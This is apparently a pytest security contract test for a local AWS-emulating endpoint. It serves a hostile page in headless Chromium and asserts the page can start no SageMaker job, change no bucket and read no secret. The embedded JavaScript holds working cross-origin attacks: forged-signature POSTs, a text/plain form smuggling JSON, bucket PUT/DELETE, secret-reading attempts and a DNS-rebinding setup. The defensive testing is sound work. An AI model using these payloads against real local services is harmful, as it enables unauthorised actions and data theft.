"""A hostile page in a real browser: it must not start a job, change anything, or read a word of the endpoint."""

import contextlib
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import threading
from urllib.parse import urlsplit

import pytest

from tests.containers import miss
from tests.contract.endpoint import BUCKET, Server, request

pytestmark = pytest.mark.contract("security", "U")

REBOUND = "rebound.example"
"""A name of the attacker's that resolves to this machine."""
NAMES = ("127.0.0.1", "localhost", REBOUND)
PAGE_SECONDS = 60
ATTEMPTS = 15
PAGE = """<!doctype html><title>hostile</title><body><script>
const targets = %(targets)s, job = %(job)s, key = %(key)s, seen = {};
const create = {"X-Amz-Target": "SageMaker.CreateTrainingJob", "Content-Type": "application/x-amz-json-1.1"};
const signed = {...create, "Authorization": "AWS4-HMAC-SHA256 Credential=" + key +
  "/20260101/us-east-1/sagemaker/aws4_request, SignedHeaders=host, Signature=00", "X-Amz-Date": "20260101T000000Z"};
async function attempt(name, work) {
  try { seen[name] = await Promise.race([work(), new Promise(end => setTimeout(() => end("no answer"), 5000))]); }
  catch (error) { seen[name] = "error " + error.name; }
}
const text = async answer => (await answer).type + ":" + await (await answer).text();
const event = (element, attribute, url) => new Promise(end => {
  element.onload = () => end("loaded"); element.onerror = () => end("error"); element[attribute] = url;
  document.body.append(element);
});
function form(target) {
  return new Promise(end => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "frame" + Math.random(); document.body.append(frame);
    Object.assign(form, {method: "POST", action: target + "/", target: frame.name, enctype: "text/plain"});
    const field = document.createElement("input");
    field.name = job.slice(0, -1) + ', "ignored": "'; field.value = '"}';
    form.append(field); document.body.append(form);
    frame.onload = () => { try { end("read " + frame.contentDocument.body.innerText); } catch (e) { end("error"); } };
    form.submit();
  });
}
function xhr(method, url) {
  return new Promise((end, fail) => {
    const request = new XMLHttpRequest();
    request.open(method, url); request.onload = () => end("read " + request.responseText);
    request.onerror = () => fail(new TypeError()); request.send(method === "GET" ? null : job);
  });
}
(async () => {
  for (const target of targets) {
    const at = name => target + " " + name;
    await attempt(at("preflighted"), () => text(fetch(target + "/", {method: "POST", headers: create, body: job})));
    await attempt(at("signed"), () => text(fetch(target + "/", {method: "POST", headers: signed, body: job})));
    await attempt(at("simple"), () => text(fetch(target + "/", {method: "POST", body: job})));
    await attempt(at("blind"), () => text(fetch(target + "/", {method: "POST", mode: "no-cors", body: job})));
    await attempt(at("cookies"), () => text(fetch(target + "/", {credentials: "include"})));
    await attempt(at("put"), () => text(fetch(target + "/%(bucket)s/planted", {method: "PUT", body: "x"})));
    await attempt(at("delete"), () => text(fetch(target + "/%(bucket)s", {method: "DELETE"})));
    await attempt(at("reset"), () => text(fetch(target + "/moto-api/reset", {method: "POST", mode: "no-cors"})));
    await attempt(at("xhr get"), () => xhr("GET", target + "/%(bucket)s/secret.txt"));
    await attempt(at("xhr post"), () => xhr("POST", target + "/"));
    await attempt(at("form"), () => form(target));
    const secret = target + "/%(bucket)s/secret.txt";
    await attempt(at("image"), () => event(new Image(), "src", secret));
    await attempt(at("script"), () => event(document.createElement("script"), "src", secret));
    await attempt(at("beacon"), async () => String(navigator.sendBeacon(target + "/", job)));
    await attempt(at("socket"), () => new Promise(end => {
      const socket = new WebSocket((target || location.origin).replace("http", "ws"));
      socket.onopen = () => end("opened"); socket.onerror = () => end("error");
    }));
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    made = Server.start(tmp_path_factory.mktemp("endpoint"))
    yield made
    assert made.end() == 0
    assert "Traceback" not in made.log.read_text()


@pytest.fixture(scope="module")
def browser():
    found = shutil.which("chromium") or shutil.which("google-chrome")
    if found is None:
        miss("no chromium; apt-get install chromium")
    return found


@contextlib.contextmanager
def opened(browser, folder, *arguments, **popen):
    """A browser for which the attacker's name leads to this machine; killed at the end."""
    options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={folder}/profile"]
    options += [f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1", "--no-proxy-server"]
    environment = {"PATH": os.environ["PATH"], "HOME": str(folder)}
    process = subprocess.Popen(
        [browser, *options, *arguments],
        env=environment, stderr=subprocess.DEVNULL, start_new_session=True, **popen,
    )  # fmt: skip
    try:
        yield process
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait(20)


@contextlib.contextmanager
def site(page, endpoint):
    """The attacker's own server: its port, and what its page reports."""
    reports, reported = [], threading.Event()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            if self.path == "/page":
                self._send(page.encode())
            else:
                self._forward()

        def do_POST(self):
            if self.path == "/report":
                reports.append(json.loads(self._body()))
                self._send(b"")
                reported.set()
            else:
                self._forward()

        do_PUT = do_DELETE = do_OPTIONS = do_POST  # noqa: N815  # http.server's naming

        def _body(self):
            return self.rfile.read(int(self.headers.get("Content-Length") or 0))

        def _forward(self):
            """As if the page's name led to the endpoint by now."""
            self.close_connection = True
            with socket.create_connection(("127.0.0.1", endpoint), 20) as stream:
                stream.sendall(f"{self.requestline}\r\n{self.headers}".encode() + self._body())
                self.wfile.write(b"".join(iter(lambda: stream.recv(65536), b"")))

        def _send(self, body):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as made:
        thread = threading.Thread(target=made.serve_forever, daemon=True)
        thread.start()
        yield made.server_address[1], reports, reported
        made.shutdown()
        thread.join(20)


@pytest.fixture
def s3(server):
    """The embedded S3, with something to steal."""
    made = server.client("s3")
    made.create_bucket(Bucket=BUCKET)
    made.put_object(Bucket=BUCKET, Key="secret.txt", Body=b"window.stolen = 'secret'")
    return made


def visit(server, browser, folder, home, targets):
    """What a page at `home` has to tell of its attempts; a target that is empty is the page's own origin."""
    page = PAGE % {
        "targets": json.dumps(targets),
        "job": json.dumps(json.dumps(request("planted", ["end", 0]))),
        "key": json.dumps(server.found["access_key"]),
        "bucket": BUCKET,
    }
    with (
        site(page, urlsplit(server.url).port) as (port, reports, reported),
        opened(browser, folder, "--remote-debugging-port=0", f"http://{home}:{port}/page", stdout=subprocess.DEVNULL),
    ):
        assert reported.wait(PAGE_SECONDS), "the page did not come to its end"
    (seen,) = reports
    assert len(seen) == ATTEMPTS * len(targets)
    return seen


def assert_untouched(server, s3):
    assert server.client("sagemaker").list_training_jobs()["TrainingJobSummaries"] == []
    assert [bucket["Name"] for bucket in s3.list_buckets()["Buckets"]] == [BUCKET]
    assert [item["Key"] for item in s3.list_objects_v2(Bucket=BUCKET)["Contents"]] == ["secret.txt"]


@pytest.mark.parametrize("home", ["127.0.0.1", REBOUND])
def test_page_starts_nothing_changes_nothing_and_reads_nothing(server, s3, browser, tmp_path, home):
    port = urlsplit(server.url).port
    seen = visit(server, browser, tmp_path, home, [f"http://{name}:{port}" for name in NAMES])

    # Of what a page may send blindly it learns nothing: an opaque answer has no text, a beacon none at all.
    blind = {name: said for name, said in seen.items() if name.endswith((" blind", " reset", " beacon"))}
    assert set(blind.values()) <= {"opaque:", "true", "error TypeError"}
    assert blind[f"http://127.0.0.1:{port} blind"] == "opaque:"  # it did get through to a refusal
    readable = {name: said for name, said in seen.items() if name not in blind}
    assert {name: said for name, said in readable.items() if not said.startswith("error")} == {}
    assert_untouched(server, s3)


def test_page_whose_own_name_leads_here_by_now_reads_refusals_alone(server, s3, browser, tmp_path):
    seen = visit(server, browser, tmp_path, REBOUND, [""])

    texts = [said for said in seen.values() if said.startswith(("basic:", "read "))]
    assert len(texts) >= 6
    assert [said for said in texts if "is not whom this connection is to" not in said] == []
    assert seen[" image"] == seen[" script"] == "error"
    assert "secret" not in "".join(seen.values())
    assert_untouched(server, s3)
